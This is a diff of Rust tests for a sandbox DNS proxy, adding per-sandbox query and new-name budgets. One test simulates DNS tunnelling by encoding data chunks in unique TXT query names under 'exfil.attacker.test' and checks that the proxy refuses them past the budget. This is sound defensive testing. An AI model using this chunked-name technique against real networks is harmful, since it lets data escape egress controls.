@@ -8,7 +8,8 @@ use std::sync::{Arc, Mutex};
 use std::time::Duration;
 
 use dns_attrib::{
-    Admit, AttributionCache, CacheConfig, DnsProxy, ManualClock, ProxyConfig, QueryAdmission,
+    Admit, AttributionCache, BudgetLimits, CacheConfig, DnsProxy, ManualClock, ProxyConfig,
+    QueryAdmission,
 };
 use egress_policy::{AttributionGap, CompiledPolicy, PlatformDenies, Policy, SandboxId};
 use hickory_proto::op::{Edns, Message, MessageType, Metadata, OpCode, Query, ResponseCode};
@@ -279,11 +280,18 @@ const RESOLVER: &str = "8.8.8.8:53";
 
 const SANDBOX_C: &str = "127.0.0.5";
 
-/// C's policy: names by policy, a few types.
+/// Budgets no test of the cache's own bounds reaches (they flood one sandbox).
+const NO_BUDGET: BudgetLimits = BudgetLimits {
+    qps: 1_000_000,
+    new_names_per_minute: 1_000_000,
+};
+
+/// C's policy: names by policy, a few types, 4 new names a minute.
 const POLICY_C: &str = r#"{"default": "deny",
     "allow": [{"domain": "api.test"}, {"wildcard_domain": "*.shop.test"}, {"ip": "8.8.8.8"}],
     "deny": [{"domain": "bad.shop.test"}],
-    "dns": {"resolve": "policy", "query_types": ["A", "AAAA", "HTTPS"]}}"#;
+    "dns": {"resolve": "policy", "query_types": ["A", "AAAA", "HTTPS"],
+            "budget": {"new_names_per_minute": 4}}}"#;
 
 /// A and B may use the resolver, with no `dns` section; C with `POLICY_C`;
 /// "nodns" may not; anything else is unknown.
@@ -586,6 +594,126 @@ async fn resolve_policy_answers_denied_names_locally_and_nothing_reaches_the_ups
         assert_eq!(m.metadata.response_code, ResponseCode::NoError, "{name}");
     }
     assert_eq!(upstream(&h), before + 2);
+}
+
+/// Sends `qname` (TXT) from `src` over UDP; the response code.
+async fn txt(h: &Harness, src: &str, qname: &str) -> ResponseCode {
+    let (_, m) = udp(h, src, &query(qname, RecordType::TXT, None)).await;
+    m.metadata.response_code
+}
+
+#[tokio::test]
+async fn a_txt_exfiltration_loop_stops_at_the_budget_and_another_sandbox_is_unaffected() {
+    let h = harness(
+        |pc, _| {
+            pc.budget = BudgetLimits {
+                qps: 1_000,
+                new_names_per_minute: 40,
+            }
+        },
+        false,
+    )
+    .await;
+    let upstream = |h: &Harness| h.upstream.udp.load(Ordering::SeqCst);
+    // One chunk of "data" per name, every name new, all under one zone.
+    let chunk = |i: u32| {
+        format!(
+            "c{i:04}-{:08x}.exfil.attacker.test.",
+            i.wrapping_mul(2_654_435_761)
+        )
+    };
+    let mut codes = Vec::new();
+    for i in 0..200 {
+        codes.push(txt(&h, SANDBOX_A, &chunk(i)).await);
+    }
+    let left = codes
+        .iter()
+        .filter(|c| **c == ResponseCode::NoError)
+        .count();
+    assert_eq!(left, 40, "the burst of one minute's names, then nothing");
+    assert!(
+        codes[40..].iter().all(|c| *c == ResponseCode::Refused),
+        "{codes:?}"
+    );
+    assert_eq!(upstream(&h), 40, "REFUSED queries never left");
+    assert_eq!(h.proxy.metrics().budget_refused.get(), 160);
+    // A name the sandbox asked before costs no new-name token.
+    assert_eq!(txt(&h, SANDBOX_A, &chunk(3)).await, ResponseCode::NoError);
+    // Another sandbox, at once: its own budget, untouched.
+    for i in 0..30 {
+        assert_eq!(
+            txt(&h, SANDBOX_B, &chunk(i)).await,
+            ResponseCode::NoError,
+            "b {i}"
+        );
+    }
+    let (_, m) = udp(&h, SANDBOX_B, &query("api.test.", RecordType::A, None)).await;
+    assert_eq!(m.answers.len(), 1);
+    // Half a minute later, half a minute's names (on the injected clock).
+    h.clock.advance(Duration::from_secs(30));
+    let later: Vec<ResponseCode> = futures::future::join_all((200..230).map(|i| {
+        let (h, name) = (&h, chunk(i));
+        async move { txt(h, SANDBOX_A, &name).await }
+    }))
+    .await;
+    let refilled = later
+        .iter()
+        .filter(|c| **c == ResponseCode::NoError)
+        .count();
+    assert_eq!(refilled, 20, "{later:?}");
+}
+
+#[tokio::test]
+async fn queries_per_second_are_bounded_and_policies_override_the_defaults() {
+    let h = harness(
+        |pc, _| {
+            pc.budget = BudgetLimits {
+                qps: 5,
+                new_names_per_minute: 1_000,
+            }
+        },
+        false,
+    )
+    .await;
+    let mut codes = Vec::new();
+    for _ in 0..8 {
+        codes.push(
+            udp(&h, SANDBOX_A, &query("api.test.", RecordType::A, None))
+                .await
+                .1
+                .metadata
+                .response_code,
+        );
+    }
+    assert_eq!(
+        codes
+            .iter()
+            .filter(|c| **c == ResponseCode::NoError)
+            .count(),
+        5,
+        "{codes:?}"
+    );
+    h.clock.advance(Duration::from_secs(1));
+    let (_, m) = udp(&h, SANDBOX_A, &query("api.test.", RecordType::A, None)).await;
+    assert_eq!(m.metadata.response_code, ResponseCode::NoError, "refilled");
+    // C's policy allows 4 new names a minute, whatever the operator's default.
+    let mut c_codes = Vec::new();
+    for i in 0..6 {
+        let q = query(&format!("x{i}.shop.test."), RecordType::A, None);
+        c_codes.push(udp(&h, SANDBOX_C, &q).await.1.metadata.response_code);
+        h.clock.advance(Duration::from_millis(200)); // within C's query rate
+    }
+    assert_eq!(
+        c_codes,
+        [
+            ResponseCode::NoError,
+            ResponseCode::NoError,
+            ResponseCode::NoError,
+            ResponseCode::NoError,
+            ResponseCode::Refused,
+            ResponseCode::Refused
+        ]
+    );
 }
 
 #[tokio::test]
@@ -916,7 +1044,14 @@ async fn malformed_input_gets_formerr_or_silence_and_the_proxy_lives_on() {
 
 #[tokio::test]
 async fn a_flood_of_unique_names_stays_within_the_bound() {
-    let h = harness(|_, cc| cc.per_sandbox_ips = 200, false).await;
+    let h = harness(
+        |pc, cc| {
+            cc.per_sandbox_ips = 200;
+            pc.budget = NO_BUDGET;
+        },
+        false,
+    )
+    .await;
     let s = UdpSocket::bind((SANDBOX_A.parse::<IpAddr>().expect("ip"), 0))
         .await
         .expect("bind");
@@ -1068,7 +1203,7 @@ async fn a_name_flood_three_times_the_cache_bound_keeps_memory_bounded_and_says_
         half > bound + 30_000,
         "{total} names: too few to fill the cache in half of them"
     );
-    let h = harness(|_, _| {}, false).await;
+    let h = harness(|pc, _| pc.budget = NO_BUDGET, false).await;
     // The quiet sandbox resolves one name before the flood.
     let (_, m) = udp(&h, SANDBOX_B, &query("api.test.", RecordType::A, None)).await;
     assert_eq!(m.metadata.response_code, ResponseCode::NoError);
